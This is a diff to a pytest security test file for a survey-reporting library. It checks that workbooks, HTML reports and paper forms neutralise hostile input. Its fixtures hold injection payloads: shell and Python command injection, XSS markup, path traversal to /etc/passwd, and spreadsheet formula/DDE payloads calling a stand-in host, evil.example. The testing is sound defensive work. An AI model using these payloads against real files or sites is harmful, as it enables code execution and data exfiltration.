@@ -12,8 +12,10 @@ from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
+from openpyxl import load_workbook
 
 from campaign_lib.build import build
+from campaign_lib.cli import main
 from campaign_lib.processed import Processed
 from campaign_lib.quarters import Quarter
 from campaign_lib.reports.batch import Wish, make_reports
@@ -24,6 +26,8 @@ TRAP = "sprung"
 PYTHON = f"\"+__import__('os').system('touch {TRAP}')+\""
 SHELL = f"$(touch {TRAP});`touch {TRAP}`"
 MARKUP = "</title></script></style><script>alert(1)</script><img src=x onerror=alert(2)>"
+#: Signs that command a terminal, or that XML cannot hold.
+SIGNS = "\x01\x1b[31m\x7f\ufffe\uffff"
 #: By table and column: what somebody typed.
 TYPED = {
     "villages": {"name": MARKUP, "aliases": '=HYPERLINK("http://evil.example","x")'},
@@ -32,17 +36,35 @@ TYPED = {
     "survey": {"enumerator": "@SUM(1+1)*cmd|' /C calc'!A0", "loan_source": MARKUP},
     "activities": {"kind": r"$\frac{1}{0}$ ${HOME}"},
     "models": {
-        "name": "javascript:alert(1)//" + MARKUP,
+        "name": "javascript:alert(1)//" + MARKUP + SIGNS,
         "field": "[x](javascript:alert(1)) {{ 7 * 7 }}",
     },
     "funding": {"purpose": "../../../../etc/passwd"},
     "task_progress": {"evidence": SHELL},
     "inspections": {"inspector": "-2+3+cmd|' /C calc'!A0"},
 }
+#: What the last row of a table has that cannot be read, so that it goes back to the village.
+UNREADABLE = {
+    "households": {"members": '=HYPERLINK("http://evil.example/?"&A1,"x")', "village": "+1+cmd"},
+    "poverty_status": {"status": f"@SUM(1)|' /C touch {TRAP}'!A0"},
+    "survey": {"house": MARKUP + SIGNS, "income": "=1+1"},
+    "activities": {"held_on": '=WEBSERVICE("http://evil.example")'},
+    "funding": {"planned": "-2+3+cmd|' /C calc'!A0"},
+}
+#: What stands in these texts and in nothing that the library writes by itself.
+MARKS = (TRAP, "evil.example", "calc", "alert(", "cmd", "WEBSERVICE", "1+1", "SUM(1")
 #: A village's code becomes a file name, a notebook's parameter, a link and a cell.
 CODE = PYTHON
 #: What the library itself puts into a page, and nothing that could load or run.
 _ATTRIBUTES_THAT_LOAD = {"src", "href", "xlink:href", "action", "formaction", "data", "srcset"}
+#: Elements of a workbook whose text is worked out, and attributes that lead somewhere.
+FORMULAS = {"f", "formula", "formula1", "formula2", "definedName"}
+LINKS = {
+    "location",
+    "Target",
+    "display",
+    "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id",
+}
 _LEADS_AWAY = re.compile(r"\s*([a-z][a-z0-9+.-]*:|//|\\)", re.I)
 
 
@@ -56,6 +78,7 @@ def poison(raw: Path) -> None:
             row |= {name: text for name, text in TYPED.get(table, {}).items() if name in row}
             if row.get("village") == "T2":
                 row["village"] = CODE
+        rows[-1] |= UNREADABLE.get(table, {})
         if table == "villages":  # a name stands for one village only
             rows[0]["name"] += " 1"
             rows[0]["aliases"] = ""
@@ -79,6 +102,8 @@ def workplace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
         for edition in ("internal", "public"):
             wish = Wish(edition=edition, word=True, jobs=1)  # type: ignore[arg-type]
             assert make_reports(processed, folder / "reports", wish) == 0
+        assert main(["--data", "data", "--today", "2025-02-01", "check"]) == 1
+        assert main(["--data", "data", "form", "forms", "--quarter", "2024Q3"]) == 0
         yield folder
     finally:
         os.chdir(here)
@@ -110,11 +135,16 @@ def pages(workplace: Path) -> list[Path]:
     return sorted((workplace / "reports").rglob("*.html"))
 
 
+def workbooks(workplace: Path) -> list[Path]:
+    return sorted(workplace.rglob("*.xlsx"))
+
+
 @pytest.mark.slow
 def test_no_text_is_run_and_nothing_is_written_elsewhere(workplace: Path) -> None:
-    assert {path.name for path in workplace.iterdir()} == {"data", "reports"}
+    assert {path.name for path in workplace.iterdir()} == {"data", "forms", "reports"}
     assert not list(workplace.rglob(f"*{TRAP}")), "a text was run"
     names = [path.name for path in (workplace / "reports" / "2024Q3").iterdir()]
+    names += [path.name for path in (workplace / "forms").rglob("*")]
     assert all(re.fullmatch(r"[\w.-]+", name) for name in names), names
 
 
@@ -142,6 +172,49 @@ def test_no_cell_is_a_formula(workplace: Path) -> None:
         wrong = [c for c in cells if re.match(r"[=@\t\r]|[+-](?!\d+([.,]\d+)*$)", c)]
         assert wrong == [], path
         assert cells
+
+
+@pytest.mark.slow
+def test_texts_in_workbooks_are_texts_alone(workplace: Path) -> None:
+    """Their own formulas, choices, names and links have no word of them but in quotation marks."""
+    names = {path.name for path in workbooks(workplace)}
+    assert "problems.xlsx" in names and len(names) >= 4, names
+    for path in workbooks(workplace):
+        with zipfile.ZipFile(path) as packed:
+            parts = {name: packed.read(name) for name in packed.namelist()}
+        for name, content in parts.items():
+            assert b'TargetMode="External"' not in content, (path, name)
+            tree = ElementTree.fromstring(content)
+            for element in tree.iter():
+                if element.tag.rpartition("}")[2] in FORMULAS:
+                    said = re.sub('"(?:[^"]|"")*"', "", element.text or "")
+                    assert not [mark for mark in MARKS if mark in said], (path, name, said)
+                assert not LINKS & element.attrib.keys() or not [
+                    mark for mark in MARKS if mark in str(element.attrib)
+                ], (path, name, element.attrib)
+
+
+@pytest.mark.slow
+def test_what_goes_back_to_the_village_shows_the_texts(workplace: Path) -> None:
+    book = load_workbook(workplace / "data" / "processed" / "problems.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
+    shown = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for typed in ("=1+1", "+1+cmd", UNREADABLE["households"]["members"]):
+        assert shown[typed].data_type == "s"
+        assert shown[typed].quotePrefix
+    assert any(MARKUP in text for text in shown)
+    assert not [cell for cell in cells if cell.data_type == "f"]
+
+
+@pytest.mark.slow
+def test_paper_forms_show_texts_as_texts(workplace: Path) -> None:
+    papers = sorted((workplace / "forms").rglob("*.html"))
+    assert len(papers) == 2
+    for path in papers:
+        page = Page()
+        page.feed(path.read_text(encoding="utf-8"))
+        assert (page.wrong, page.scripts) == ([], 0), path
+        assert "<script>alert(1)</script>" in "".join(page.text)
 
 
 @pytest.mark.slow
